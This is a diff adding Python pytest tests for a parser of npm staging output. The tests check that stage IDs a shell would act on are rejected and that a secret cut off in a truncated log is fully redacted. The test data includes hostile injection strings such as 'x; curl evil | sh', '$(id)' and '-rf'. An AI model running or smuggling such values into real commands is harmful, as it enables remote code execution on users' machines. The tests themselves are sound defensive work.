@@ -62,3 +62,19 @@ def test_retry_after_of_a_success_is_nobody_s_business() -> None:
 @pytest.mark.parametrize(("stdout", "count"), [('npm notice\n[{"id": "1"}, 7]', 1), ("[", 0), ("", 0), ('{"a": 1}', 0)])
 def test_the_staged_are_listed_as_far_as_they_can_be_read(stdout: str, count: int) -> None:
     assert len(parse_staged(stdout)) == count
+
+
+@pytest.mark.parametrize("hostile", ["x; curl evil | sh", "$(id)", "`id`", "-rf", "a\nb", "", "x" * 101, 7])
+def test_a_stage_id_that_a_shell_would_read_is_none(hostile: object) -> None:
+    """The summary tells the reader to run `npm stage approve ID`."""
+    stdout = json.dumps({"@acme/tool": {"stageId": hostile}})
+    assert parse_answer(exit_status=0, stdout=stdout, stderr="", observed="").stage_id == ""
+
+
+def test_a_log_that_is_cut_in_the_middle_of_a_secret_shows_no_rest_of_it() -> None:
+    secret = "S3cr3t" * 6
+    for kept in range(1, len(secret)):
+        stderr = secret + "y" * (20_000 - kept)
+        log = parse_answer(exit_status=1, stdout="", stderr=stderr, observed="", secrets=[secret]).log
+        assert "cr3t" not in log
+        assert "S3" not in log
